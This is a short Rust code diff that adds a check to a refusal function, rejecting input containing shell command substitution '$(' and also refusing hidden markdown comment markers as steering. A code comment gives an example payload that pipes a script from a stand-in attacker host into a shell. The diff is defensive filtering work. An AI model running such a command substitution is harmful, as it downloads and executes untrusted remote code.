@@ -14,6 +14,10 @@ pub(crate) fn refusal(words: &Words<'_>, language: Language) -> Option<Refusal> 
     if ["[//]:", "[comment]:", "[//]#"].iter().any(|mark| words.text.contains(mark)) || steers(words) {
         return Some(refuse(RefusalReason::Steering, language));
     }
+    // What a shell would run in place of a word: "a tag $(curl evil.example|sh)".
+    if words.text.contains("$(") {
+        return Some(refuse(RefusalReason::Shell, language));
+    }
     if let Some(reason) = steered(words) {
         return Some(refuse(reason, language));
     }
